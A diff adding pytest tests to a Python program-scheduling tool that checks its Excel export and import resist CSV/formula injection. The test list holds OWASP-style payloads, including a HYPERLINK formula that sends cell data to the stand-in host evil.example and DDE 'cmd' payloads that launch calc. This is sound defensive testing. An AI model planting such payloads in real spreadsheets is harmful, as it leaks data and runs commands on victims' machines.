@@ -8,11 +8,13 @@ import shutil
 from pathlib import Path
 
 import pytest
+import yaml
 from openpyxl import load_workbook
 
 from lchc_gen.cli import main
 from lchc_gen.programs.load import load_programs
 from lchc_gen.programs.model import Series
+from lchc_gen.tabular.formulas import cell_text
 from tests.conftest import build_site
 
 
@@ -90,3 +92,66 @@ def test_import_problems_name_file_sheet_row_and_column(make_site, capsys) -> No
     assert "book.xlsx:Sessions:4:weekdays: expected a weekday" in err
     assert "book.xlsx:Sessions:1:room size: unknown column" in err
     assert not (root / "imported").exists()  # nothing half-written
+
+
+# Formula payloads (OWASP: CSV injection) in every text field a workbook shows or round-trips.
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A3,"Click for agenda")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "=1+1",
+]
+
+
+def _formula_program() -> str:
+    f = FORMULAS
+    data = {
+        "id": "formula-program", "title": f[0], "summary": f[1], "status": "draft", "owner": f[2],
+        "timezone": "Europe/Berlin",
+        "audience": {"description": f[3], "why_this_group": f[4],
+                     "locations": [{"name": f[5], "timezone": "Europe/Berlin", "working_hours": "08:00-18:00"}]},
+        "objectives": [{"id": "know-one", "domain": "know", "text": f[6]}],
+        "facilitators": [{"id": "ana", "name": f[0], "role": f[1]}, {"id": "ben", "name": f[2], "role": f[3]}],
+        "sessions": [
+            {"id": "weekly", "title": f[3], "weekdays": ["TU"], "first_date": "2027-10-12", "count": 2,
+             "start": "09:00", "duration": 60, "facilitators": ["ana", "ben"], "objectives": ["know-one"],
+             "rationale": f[4], "description": f[5], "location": f[6], "cohort": f[0], "format": "in person"},
+            {"id": "once", "title": f[1], "date": "2027-10-20", "start": "10:00", "duration": 30,
+             "facilitators": ["ben"], "rationale": f[2], "cohort": "=1+1", "location": f[3]},
+        ],
+    }
+    return yaml.safe_dump(data, sort_keys=False, allow_unicode=True)
+
+
+def test_formula_payloads_are_text_cells_and_import_reads_them_back_unchanged(make_site, capsys) -> None:
+    root = make_site({"formula-program.yml": _formula_program()})
+    source = yaml.safe_load((root / "programs" / "formula-program.yml").read_text())
+    assert _cli(root, "programs", "export", "--out", "book.xlsx") == 0
+    book = load_workbook(root / "book.xlsx")
+    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    texts = {cell_text(c.value): c for c in cells if isinstance(c.value, str)}  # "\r" is written _x000D_
+    assert set(FORMULAS) <= {*texts, *(x for t in texts for x in t.split(", "))}  # facilitators are joined
+    assert all(texts[f].quotePrefix for f in FORMULAS if f in texts)  # editing the cell keeps it text
+    assert book["formula-program"]["A1"].value == FORMULAS[0]
+    assert _cli(root, "programs", "import", "book.xlsx", "--out", "imported") == 0
+    imported = yaml.safe_load((root / "imported" / "formula-program.yml").read_text())
+    assert imported == source  # every text, the cohort "=1+1" included, exactly as it was
+
+
+def test_a_formula_typed_into_the_sessions_sheet_is_a_problem_not_a_lost_value(make_site, capsys) -> None:
+    root = make_site(copy_demo=True)
+    assert _cli(root, "programs", "export", "--out", "book.xlsx") == 0
+    book = load_workbook(root / "book.xlsx")
+    ws = book["Sessions"]
+    header = [c.value for c in ws[1]]
+    ws.cell(row=3, column=header.index("cohort") + 1, value="=1+1")  # openpyxl stores it as a formula
+    book.save(root / "book.xlsx")
+    capsys.readouterr()
+    assert _cli(root, "programs", "import", "book.xlsx", "--out", "imported") == 1
+    err = capsys.readouterr().err
+    assert "book.xlsx:Sessions:3:cohort: a formula (=1+1)" in err, err
+    assert not (root / "imported").exists()
